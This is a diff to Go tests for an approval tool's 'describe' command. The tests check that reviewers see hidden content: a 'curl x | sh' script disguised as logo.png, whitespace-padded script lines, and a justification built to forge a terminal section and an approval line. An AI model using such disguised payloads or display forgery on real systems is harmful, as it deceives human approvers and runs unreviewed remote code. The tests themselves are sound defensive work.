@@ -17,6 +17,7 @@ import (
 
 	"github.com/valetkey/valetkey/api/v1alpha1"
 	"github.com/valetkey/valetkey/internal/policy"
+	"github.com/valetkey/valetkey/internal/visible"
 )
 
 func TestDescribeSaysAllThatAPersonDecidesOn(t *testing.T) {
@@ -124,7 +125,7 @@ As whom it runs
 func TestDescribe_ShowsWhatTheStepReadsAsItWasReviewed(t *testing.T) {
 	content := func(script string) *corev1.ConfigMap {
 		return &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "agents", Name: "scripts", UID: "c-1"},
-			Data: map[string]string{"run.sh": script}, BinaryData: map[string][]byte{"tool": {1, 2}}}
+			Data: map[string]string{"run.sh": script}, BinaryData: map[string][]byte{"logo.png": []byte("#!/bin/sh\ncurl x | sh\n"), "tool": {1, 0xff}}}
 	}
 	reviewed := content("set -e\n\techo harmless\n" + strings.Repeat("#\n", 50))
 	job := aJob(func(j *batchv1.Job) {
@@ -146,7 +147,12 @@ The ConfigMaps that it reads, of which it gets copies as they were reviewed
               run.sh:
               | set -e
               |     echo harmless
-`, "and 12 more lines that are not shown: kubectl get configmap scripts -n agents -o yaml", "tool: no text, of 2 bytes")
+`, `and 12 more lines that are not shown: kubectl get configmap scripts -n agents -o go-template='{{index .data "run.sh"}}' | cat -v`, `
+              logo.png:
+              | #!/bin/sh
+              | curl x | sh
+              tool: 2 bytes that are not UTF-8, SHA-256 4b3a43f592f577fcfcb5b0e1f42bec5182c9edc414e1f667528f56e7cf0be11d: `+
+		`kubectl get configmap scripts -n agents -o go-template='{{index .binaryData "tool" | base64decode}}' | cat -v`)
 
 	for _, now := range []*corev1.ConfigMap{content("echo evil"), func() *corev1.ConfigMap { c := reviewed.DeepCopy(); c.UID = "c-2"; return c }()} {
 		said := at(t, r, job, now).types("describe", r.Name).exits(0).says("  !!!         scripts: it does not hold any more what was reviewed")
@@ -173,7 +179,7 @@ func TestDescribe_TellsTheClustersCertificatesByWhatTheyAre(t *testing.T) {
 		"the very same":             {map[string]string{"ca.crt": "-----BEGIN CERTIFICATE-----\nb3du"}, nil, []string{"--certificate-authority=" + own}, known},
 		"another's":                 {map[string]string{"ca.crt": "echo evil"}, nil, []string{"--certificate-authority=" + own}, "| echo evil"},
 		"with more beside":          {map[string]string{"ca.crt": "-----BEGIN CERTIFICATE-----\nb3du\n", "run.sh": "echo evil"}, nil, []string{"--certificate-authority=" + own}, "| echo evil"},
-		"with more that is no text": {map[string]string{"ca.crt": "-----BEGIN CERTIFICATE-----\nb3du\n"}, map[string][]byte{"tool": {1}}, []string{"--certificate-authority=" + own}, "tool: no text, of 1 byte"},
+		"with more that is no text": {map[string]string{"ca.crt": "-----BEGIN CERTIFICATE-----\nb3du\n"}, map[string][]byte{"tool": {1}}, []string{"--certificate-authority=" + own}, "| \\u0001"},
 		"a kubeconfig without any":  {map[string]string{"ca.crt": ""}, nil, nil, "ca.crt:"},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -195,15 +201,49 @@ func TestDescribe_TellsTheClustersCertificatesByWhatTheyAre(t *testing.T) {
 
 func TestDescribeShowsAScriptLineByLine(t *testing.T) {
 	r := aRequest(func(r *v1alpha1.CapabilityRequest) {
-		r.Status.Review.Job.Command, r.Status.Review.Job.Args = nil, []string{"-c", "set -e\n\tcurl x\n", "last"}
+		script := "set -e\n\tcurl x     # y\n" + strings.Repeat(" ", 66) + "What it gets\n"
+		r.Status.Review.Job.Command, r.Status.Review.Job.Args = nil, []string{"-c", script, "last"}
 	})
 	at(t, r).types("describe", r.Name).exits(0).says(`  command     the image's own
   args        "-c"
   args        these lines, as one word:
               | set -e
-              |     curl x
+              |     curl x␣{5}# y
+              | ␣{66}What it gets
   args        "last"
 `)
+}
+
+// TestDescribe_NoValueBeginsARowOfTheTerminal: a reason that guesses the width would go on as sections of its own.
+func TestDescribe_NoValueBeginsARowOfTheTerminal(t *testing.T) {
+	for _, columns := range []int{80, 120} {
+		why := "Publish the preview build for PR-184."
+		why += strings.Repeat(" ", columns-len(`  why         "`+why))
+		for _, row := range []string{"", "What it gets", "  capability  read-settings: Read the docs.", "  scope       nothing", "", "What is decided",
+			"  decision    Approve by bob@example.com (first of two)"} {
+			why += row + strings.Repeat(" ", columns-len(row))
+		}
+		r := aRequest(func(r *v1alpha1.CapabilityRequest) { r.Spec.Justification = why })
+		job := aJob(func(j *batchv1.Job) {
+			j.Spec.Template.Spec.Containers[0].Args = []string{why, strings.ReplaceAll(why, " ", "x")}
+		})
+		for _, args := range [][]string{{"describe", r.Name}, {"approve", r.Name, "--yes"}, {"requests", "-o", "wide"}, {"describe", r.Name, "-o", "json"}} {
+			shown := at(t, r, job).onTerminal(columns, args...)
+			whole := at(t, r, job).types(args...).stdout
+			for row := range strings.Lines(shown) {
+				if row = strings.TrimSuffix(row, "\n"); len([]rune(row)) > columns {
+					t.Errorf("%v: the terminal breaks %q", args, row)
+				}
+				begins := strings.TrimLeft(row, " ")
+				if row != "" && !strings.HasPrefix(begins, string(visible.Continuation)) && !strings.Contains("\n"+whole, "\n"+row) {
+					t.Errorf("%v in %d columns: a value begins the row %q", args, columns, row)
+				}
+			}
+			if args[0] == "describe" && len(args) == 2 && strings.Count(shown, "\nWhat it gets\n") != 1 {
+				t.Errorf("%v in %d columns: a section is forged:\n%s", args, columns, shown)
+			}
+		}
+	}
 }
 
 func TestDescribeSaysWhoDecidedWhat(t *testing.T) {
